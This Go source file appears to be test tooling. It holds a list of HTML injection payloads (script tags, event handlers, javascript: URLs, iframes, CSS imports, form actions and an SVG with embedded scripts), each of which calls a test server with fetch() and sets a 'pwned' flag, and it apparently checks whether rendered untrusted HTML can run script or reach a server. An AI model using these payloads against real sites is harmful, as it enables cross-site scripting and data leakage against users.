package web

import "strings"

// payload is HTML that reaches a server, runs a script, or leads the page elsewhere, if a page takes it for HTML.
type payload struct {
	name string
	// html has URL for an address of the server, and JS for a script that requests it.
	html string
	// click is set if a user must click on the element with the id "click".
	click bool
}

var payloads = []payload{
	{"script", `<script>JS</script>`, false},
	{"script-source", `<script src="URL"></script>`, false},
	{"image-error", `<img src=x onerror="JS">`, false},
	{"image-error-of-an-attribute", `"'><img src=x onerror="JS">`, false},
	{"closing-tags", `</pre></bdi></textarea></title></style></script>--><script>JS</script>`, false},
	{"svg-load", `<svg onload="JS"></svg>`, false},
	{"svg-script", `<svg><script>JS</script></svg>`, false},
	{"svg-animation", `<svg><animate onbegin="JS" attributeName="x" dur="1s"></animate></svg>`, false},
	{"svg-image", `<svg><image href="URL"></image></svg>`, false},
	{"svg-foreign-object", `<svg><foreignObject><img src="URL"></foreignObject></svg>`, false},
	{"details", `<details open ontoggle="JS"><summary>x</summary></details>`, false},
	{"animation", `<style>@keyframes x {}</style><p style="animation: x 1s" onanimationstart="JS">x</p>`, false},
	{"focus", `<input autofocus onfocus="JS">`, false},
	{"frame-srcdoc", `<iframe srcdoc="<script>JS</script>"></iframe>`, false},
	{"frame-script-url", `<iframe src="javascript:JS"></iframe>`, false},
	{"frame-data-url", `<iframe src="data:text/html,<script>JS</script>"></iframe>`, false},
	{"frame-url", `<iframe src="URL"></iframe>`, false},
	{"object", `<object data="URL"></object>`, false},
	{"embed", `<embed src="URL">`, false},
	{"image", `<img src="URL">`, false},
	{"image-set", `<img srcset="URL 1x">`, false},
	{"input-image", `<input type="image" src="URL">`, false},
	{"video", `<video src="URL" autoplay></video>`, false},
	{"audio-source", `<audio autoplay><source src="URL"></audio>`, false},
	{"style-import", `<style>@import url("URL");</style>`, false},
	{"style-background", `<style>body { background: url("URL") }</style>`, false},
	{"style-font", `<style>@font-face { font-family: a; src: url("URL") } body { font-family: a }</style>x`, false},
	{"style-attribute", `<p style="background: url('URL')">x</p>`, false},
	{"link-style", `<link rel="stylesheet" href="URL">`, false},
	{"link-prefetch", `<link rel="prefetch" href="URL">`, false},
	{"meta-refresh", `<meta http-equiv="refresh" content="0;url=URL">`, false},
	{"base", `<base href="URL/"><img src="pixel">`, false},
	{"message", `<script>parent.postMessage({ready: 1, html: 'x', height: 99999}, '*');JS</script>`, false},
	{"click-script-url", `<a id="click" href="javascript:JS">click</a>`, true},
	{"click-handler", `<button id="click" onclick="JS">click</button>`, true},
	{"click-top", `<a id="click" href="URL" target="_top">click</a>`, true},
	{"click-self", `<a id="click" href="URL">click</a>`, true},
	{"click-tab", `<a id="click" href="URL" target="_blank">click</a>`, true},
	{"click-window", `<button id="click" onclick="window.open('URL')">click</button>`, true},
	{"click-form", `<form action="URL"><button id="click">click</button></form>`, true},
	{"click-form-top", `<form action="URL" method="post" target="_top"><button id="click">click</button></form>`, true},
	{"click-form-script", `<form><button id="click" formaction="javascript:JS">click</button></form>`, true},
	{"click-download", `<a id="click" href="URL" download="x.html">click</a>`, true},
	{"click-ping", `<a id="click" href="#here" ping="URL">click</a>`, true},
	{"click-map", `<map name="m"><area id="area" href="URL" shape="default"></map>` +
		`<img id="click" usemap="#m" width="40" height="40" alt="x" src="data:image/gif;base64,` +
		`R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">`, true},
}

// at returns the HTML of the payload for a server: url, without a slash at the end.
func (p payload) at(url string) string {
	target := url + "/fired/" + p.name
	script := "fetch('" + target + "',{mode:'no-cors'});try{top.pwned=1}catch(e){};window.pwned=1;" +
		"document.title='pwned';void 0"
	return strings.NewReplacer("URL", target, "JS", script).Replace(p.html)
}

// htmlAt returns the HTML of all payloads.
func htmlAt(url string) []string {
	var all []string
	for _, each := range payloads {
		all = append(all, each.at(url))
	}
	return all
}

// svgAt is a picture that reaches the server if it is a document, or may load something.
func svgAt(url string) string {
	return strings.ReplaceAll(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 width="120" height="60" onload="fetch('URL/load',{mode:'no-cors'})">
<style>@import url("URL/import"); rect { fill: url("URL/fill#x") }</style>
<rect width="120" height="60" fill="teal"/>
<script>fetch('URL/script',{mode:'no-cors'}); try { parent.pwned = top.pwned = 1 } catch (e) {}</script>
<script href="URL/script-href"/>
<image href="URL/image" width="10" height="10"/>
<use href="URL/use#x"/>
<foreignObject width="50" height="50"><img xmlns="http://www.w3.org/1999/xhtml" src="URL/foreign"/></foreignObject>
</svg>`, "URL", url+"/fired/svg")
}
